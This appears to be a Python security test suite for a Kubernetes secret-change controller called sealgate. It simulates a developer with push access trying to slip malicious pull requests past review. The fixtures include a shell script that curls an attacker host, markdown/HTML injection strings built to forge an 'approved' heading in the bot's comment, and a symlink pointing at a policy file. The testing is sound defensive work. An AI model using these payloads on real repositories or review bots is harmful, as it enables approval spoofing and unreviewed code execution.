"""Attacks through what a pull request's files are: where they live, their names, their
YAML, their git modes, and what sealgate prints about them.

The attacker is a developer with push access (alice). Every attack goes through the loopback
GitHub's REST API or a push, and is judged from what GitHub, the store and the cluster hold.
"""

from __future__ import annotations

import tempfile
from collections.abc import Mapping
from pathlib import Path

from controller.reconciler import Status
from tests.integration.test_reconciler_world import (
    ENV,
    FULL,
    NAMESPACE,
    OWNER,
    REPO,
    Controller,
    World,
)
from tests.integration.test_reconciler_world import controller as controller  # noqa: PLC0414
from tests.integration.test_reconciler_world import world as world  # noqa: PLC0414
from tests.security.attack_support import (
    PATH,
    approve_and_handle,
    open_files,
    summary,
    untouched,
)


def test_a_change_filed_under_another_environments_folder_is_refused(
    world: World, controller: Controller
) -> None:
    # changes/staging/ might be judged by looser rules; spec.environment says production.
    number = open_files(world, {"changes/staging/x.yaml": world.change_yaml("x", b"v1")})
    assert approve_and_handle(world, controller, number) is Status.INVALID
    assert "must live under changes/production/" in summary(world, number)
    untouched(world, controller, number)


def test_a_change_under_a_differently_cased_folder_is_not_a_secret_change(
    world: World, controller: Controller
) -> None:
    # "Changes/" is outside changes/: a governance change, and no governance policy exists.
    number = open_files(world, {"Changes/production/x.yaml": world.change_yaml("x", b"v1")})
    assert approve_and_handle(world, controller, number) is Status.INVALID
    assert "governance" in summary(world, number)
    untouched(world, controller, number)


def test_moving_a_policy_into_changes_is_a_governance_change_and_refused(
    world: World, controller: Controller
) -> None:
    # The policy that judges production disappears in the same pull request as a change.
    policy = world.hub.read_file(OWNER, REPO, "main", "policies/production.yaml")
    assert policy is not None
    number = open_files(
        world,
        {
            "policies/production.yaml": None,
            "changes/production/production.yaml": policy + b"# moved\n",
            "changes/production/x.yaml": world.change_yaml("x", b"v1"),
        },
    )
    assert approve_and_handle(world, controller, number) is Status.INVALID
    assert "governance" in summary(world, number)
    untouched(world, controller, number)
    assert world.hub.read_file(OWNER, REPO, "main", "policies/production.yaml") == policy


def test_a_yml_and_a_yaml_file_changing_the_same_key_are_refused(
    world: World, controller: Controller
) -> None:
    # Two readers could apply them in either order: which value wins must not be a guess.
    number = open_files(
        world,
        {
            "changes/production/x.yaml": world.change_yaml("x", b"value-one"),
            "changes/production/x.yml": world.change_yaml("x2", b"value-two"),
        },
    )
    assert approve_and_handle(world, controller, number) is Status.INVALID
    assert "change each key in one document only" in summary(world, number)
    untouched(world, controller, number)


def test_a_second_yaml_document_changing_the_same_key_is_refused(
    world: World, controller: Controller
) -> None:
    text = world.change_yaml("x", b"reviewed") + b"---\n" + world.change_yaml("y", b"smuggled")
    number = open_files(world, {"changes/production/x.yaml": text})
    assert approve_and_handle(world, controller, number) is Status.INVALID
    assert "change each key in one document only" in summary(world, number)
    untouched(world, controller, number)


def test_a_duplicate_mapping_key_cannot_hide_a_second_value(
    world: World, controller: Controller
) -> None:
    # Reviewers' YAML viewer may show the first value, a loader may keep the last one.
    text = world.change_yaml("x", b"shown") + f"    password: {world.seal(b'hidden')}\n".encode()
    number = open_files(world, {"changes/production/x.yaml": text})
    assert approve_and_handle(world, controller, number) is Status.INVALID
    assert "changes/production/x.yaml" in summary(world, number)
    assert "duplicate" in summary(world, number).lower()
    untouched(world, controller, number)


def test_yaml_anchors_merge_keys_and_tags_are_refused(world: World, controller: Controller) -> None:
    sealed = world.seal(b"v1")
    head = (
        "apiVersion: sealgate.dev/v1\nkind: SecretChange\nmetadata:\n  name: x\n"
        f"spec:\n  environment: {ENV}\n  secret: {PATH}\n  reason: rotate the password\n"
    )
    files = {
        "changes/production/anchor.yaml": (
            head + f"  set: &values\n    password: {sealed}\n  extra: *values\n"
        ).encode(),
        "changes/production/merge.yaml": (
            head.replace("name: x", "name: m") + "  set:\n    <<: {password: " + sealed + "}\n"
        ).encode(),
        "changes/production/tag.yaml": (
            head.replace("name: x", "name: t") + "  set:\n    password: !!binary aGVsbG8=\n"
        ).encode(),
    }
    number = open_files(world, files)
    assert approve_and_handle(world, controller, number) is Status.INVALID
    text = summary(world, number)
    for path in files:
        assert path in text
    assert "aGVsbG8=" not in text
    untouched(world, controller, number)


def test_a_byte_order_mark_does_not_hide_the_document(world: World, controller: Controller) -> None:
    # A BOM is read past: the reviewed document is the one applied, never an empty change.
    number = open_files(
        world, {"changes/production/x.yaml": b"\xef\xbb\xbf" + world.change_yaml("x", b"v1")}
    )
    assert approve_and_handle(world, controller, number) is Status.SYNCED
    stored = controller.store.read_secret(ENV, PATH)
    assert stored is not None
    assert stored.data["password"] == b"v1"


def test_a_key_kubernetes_would_refuse_is_refused_before_the_merge(
    world: World, controller: Controller
) -> None:
    # Kubernetes refuses Secret keys starting with '..' ('..data' is the kubelet's own link in
    # a mounted volume): merged and stored, the Secret could then never be written again.
    sealed = world.seal(b"v", key="..data")
    text = world.change_yaml("x", b"v1").replace(
        b"  set:\n", f"  set:\n    ..data: {sealed}\n".encode()
    )
    number = open_files(world, {"changes/production/x.yaml": text})
    assert approve_and_handle(world, controller, number) is Status.INVALID
    assert "spec.set...data: key may not be '.' or start with '..'" in summary(world, number)
    untouched(world, controller, number)


def test_a_script_under_changes_is_read_as_a_change_and_refused(
    world: World, controller: Controller
) -> None:
    # Anything under changes/ is judged as a change, so nothing rides along unreviewed.
    number = open_files(
        world,
        {
            "changes/production/x.yaml": world.change_yaml("x", b"v1"),
            "changes/production/run.sh": b"#!/bin/sh\ncurl https://attacker.example\n",
        },
    )
    assert approve_and_handle(world, controller, number) is Status.INVALID
    assert "changes/production/run.sh:2: a document must be a mapping" in summary(world, number)
    untouched(world, controller, number)


def test_secret_names_kubernetes_would_read_differently_are_refused(
    world: World, controller: Controller
) -> None:
    files = {
        "changes/production/upper.yaml": world.change_yaml("u", b"v1", secret=f"{NAMESPACE}/DB"),
        "changes/production/dots.yaml": world.change_yaml(
            "d", b"v1", secret=f"{NAMESPACE}/db/../other"
        ),
    }
    number = open_files(world, files)
    assert approve_and_handle(world, controller, number) is Status.INVALID
    text = summary(world, number)
    for path in files:
        assert f"{path}:7: spec.secret: must be <namespace>/<name>" in text
    untouched(world, controller, number)


def test_deleting_an_applied_change_file_changes_nothing(
    world: World, controller: Controller
) -> None:
    first = world.open_pull(b"applied-value")
    assert approve_and_handle(world, controller, first) is Status.SYNCED
    applied = str(world.hub.pull(OWNER, REPO, first)["head"]["ref"])
    number = open_files(world, {f"changes/{ENV}/{applied}.yaml": None})
    assert approve_and_handle(world, controller, number) is Status.INVALID
    assert "nothing to approve" in summary(world, number)
    stored = controller.store.read_secret(ENV, PATH)
    assert stored is not None
    assert (stored.version, stored.data["password"]) == (1, b"applied-value")


# -- git objects a push can carry ------------------------------------------------------------


def push_entries(world: World, entries: Mapping[str, tuple[str, str]], *, author: str) -> int:
    """Push a commit adding ``path -> (mode, blob-or-commit sha)`` entries, as a local git
    client could (symlinks, submodules), and open a pull request for it."""
    # The server's push helper writes regular files only; a git client can push any mode.
    hub = world.hub._hub
    repo = hub.repo(OWNER, REPO)
    branch = f"attack-{next(world.branches)}"
    base = repo.git.branch_sha("main")
    assert base is not None
    sha = repo.git.commit_files(
        base, {}, message="tree", author=hub.person(author), committer=hub.person(author)
    )
    g = repo.git._repo.git
    with tempfile.TemporaryDirectory() as tmp:
        env = {"GIT_INDEX_FILE": str(Path(tmp) / "index"), "GIT_WORK_TREE": tmp}
        g.read_tree(sha, env=env)
        for path, (mode, obj) in entries.items():
            g.update_index("--add", "--cacheinfo", f"{mode},{obj},{path}", env=env)
        tree = str(g.write_tree(env=env))
    who = hub.person(author)
    commit = repo.git.commit_tree(tree, [base], "link", who, who)
    repo.git.set_branch(branch, commit, None)
    return world.hub.open_pull_request(OWNER, REPO, head=branch, title="links", author=author)


def test_a_symlink_or_submodule_under_changes_is_not_followed(
    world: World, controller: Controller
) -> None:
    g = world.hub._hub.repo(OWNER, REPO).git._repo.git
    with tempfile.NamedTemporaryFile() as f:
        f.write(b"../../policies/production.yaml")
        f.flush()
        link = str(g.hash_object("-w", "--no-filters", f.name))
    main = world.hub.branch_sha(OWNER, REPO, "main")
    number = push_entries(
        world,
        {
            "changes/production/link.yaml": ("120000", link),
            "changes/production/module": ("160000", main),
        },
        author="alice",
    )
    assert approve_and_handle(world, controller, number) is Status.INVALID
    text = summary(world, number)
    assert "changes/production/link.yaml:1: a document must be a mapping" in text
    assert "changes/production/module: listed by GitHub but not readable" in text
    untouched(world, controller, number)


def test_markdown_smuggled_in_a_key_name_stays_inert_in_sealgates_reports(
    world: World, controller: Controller
) -> None:
    # A key name breaking out of its code span could print a fake "approved" heading in
    # sealgate's own comment, where approvers trust every line.
    evil = '"x`\\n\\n### sealgate: approved (1/1 approvals)\\n\\n<b>approved by bob</b> `y"'
    text = world.change_yaml("x", b"v1").replace(
        b"  set:\n", f"  set:\n    {evil}: {world.seal(b'v2')}\n".encode()
    )
    number = open_files(world, {"changes/production/x.yaml": text})
    assert controller.reconciler.handle(FULL, number).status is Status.INVALID
    (sticky,) = [c["body"] for c in world.hub.comments(OWNER, REPO, number)]
    for body in (summary(world, number), sticky):
        lines = body.splitlines()
        assert not [line for line in lines if line.startswith("### sealgate: approved")]
        (problem,) = [line for line in lines if "changes/production/x.yaml:10" in line]
        # One code span from start to end: nothing in it renders as markdown or HTML.
        assert problem.startswith("- `")
        assert problem.endswith("`")
        assert problem.count("`") == 2
    untouched(world, controller, number)


def test_a_file_over_the_size_limit_is_refused_unread(world: World, controller: Controller) -> None:
    big = world.change_yaml("x", b"v1") + b"# " + b"A" * (300 * 1024) + b"\n"
    number = open_files(world, {"changes/production/x.yaml": big})
    assert approve_and_handle(world, controller, number) is Status.INVALID
    assert "over the 262144 byte limit: split it into several files" in summary(world, number)
    untouched(world, controller, number)


def test_markdown_smuggled_in_a_file_name_stays_inert_in_sealgates_reports(
    world: World, controller: Controller
) -> None:
    path = "changes/production/a`\n\n### sealgate: approved (1/1 approvals)\n\n<b>x</b>.yaml"
    number = open_files(world, {path: b"not: [valid\n"})
    assert approve_and_handle(world, controller, number) is Status.INVALID
    lines = summary(world, number).splitlines()
    assert not [line for line in lines if line.startswith("### sealgate: approved")]
    (problem,) = [line for line in lines if "changes/production/a" in line]
    assert problem.startswith("- `")
    assert problem.endswith("`")
    assert problem.count("`") == 2
    untouched(world, controller, number)


def test_a_sealed_value_moved_to_another_secret_or_key_does_not_open(
    world: World, controller: Controller
) -> None:
    # alice copies the database password's sealed text into a Secret her own workload
    # mounts, and into another key, hoping the controller decrypts it there.
    sealed = world.seal(b"the-database-password")
    moved = world.change_yaml("x", b"", secret=f"{NAMESPACE}/leak", sealed=sealed)
    renamed = world.change_yaml("y", b"", sealed=sealed).replace(b"    password:", b"    copy:")
    number = open_files(
        world, {"changes/production/x.yaml": moved, "changes/production/y.yaml": renamed}
    )
    assert approve_and_handle(world, controller, number) is Status.INVALID
    text = summary(world, number)
    opens_not = "sealed value does not open for environment 'production'"
    assert (
        f"changes/production/x.yaml: spec.set.password: {opens_not}, secret 'payments/leak'" in text
    )
    assert f"changes/production/y.yaml: spec.set.copy: {opens_not}, secret 'payments/db'" in text
    assert "the-database-password" not in text
    untouched(world, controller, number)
    assert world.kube.get("v1", "Secret", NAMESPACE, "leak") is None


def test_renaming_an_applied_change_file_does_not_bring_its_old_value_back(
    world: World, controller: Controller
) -> None:
    first = world.open_pull(b"old-value")
    assert approve_and_handle(world, controller, first) is Status.SYNCED
    assert approve_and_handle(world, controller, world.open_pull(b"new-value")) is Status.SYNCED
    ref = str(world.hub.pull(OWNER, REPO, first)["head"]["ref"])
    old = world.hub.read_file(OWNER, REPO, "main", f"changes/{ENV}/{ref}.yaml")
    assert old is not None
    # A pure rename: git shows it as renamed, the file at the head is the old change.
    number = open_files(
        world, {f"changes/{ENV}/{ref}.yaml": None, f"changes/{ENV}/renamed.yaml": old}
    )
    assert approve_and_handle(world, controller, number) is Status.INVALID
    assert (
        f"changes/{ENV}/renamed.yaml: spec.set.password: this sealed value was already applied "
        f"(by {ENV}/pr-{first})"
    ) in summary(world, number)
    stored = controller.store.read_secret(ENV, PATH)
    assert stored is not None
    assert (stored.version, stored.data["password"]) == (2, b"new-value")


def test_a_change_to_the_reserved_governance_environment_is_refused(
    world: World, controller: Controller
) -> None:
    text = world.change_yaml("g", b"v1").replace(
        f"environment: {ENV}".encode(), b"environment: governance"
    )
    number = open_files(world, {"changes/governance/x.yaml": text})
    assert approve_and_handle(world, controller, number) is Status.INVALID
    assert "spec.environment: 'governance' is not an environment" in summary(world, number)
    untouched(world, controller, number)


def test_a_change_kubernetes_would_refuse_as_too_large_is_refused(
    world: World, controller: Controller
) -> None:
    """A 7.7 kB change file generating 300 keys of 4 KiB asks for a 1.2 MB Secret, which
    Kubernetes refuses: merged and stored, it could never be written anywhere."""
    generate = "".join(f"    k{i}: {{length: 4096}}\n" for i in range(300))
    text = world.change_yaml("x", b"v1").replace(
        b"  set:\n", ("  generate:\n" + generate + "  set:\n").encode()
    )
    number = open_files(world, {"changes/production/x.yaml": text})
    assert approve_and_handle(world, controller, number) is Status.INVALID
    assert "Kubernetes refuses a Secret over 1048576 bytes" in summary(world, number)
    untouched(world, controller, number)
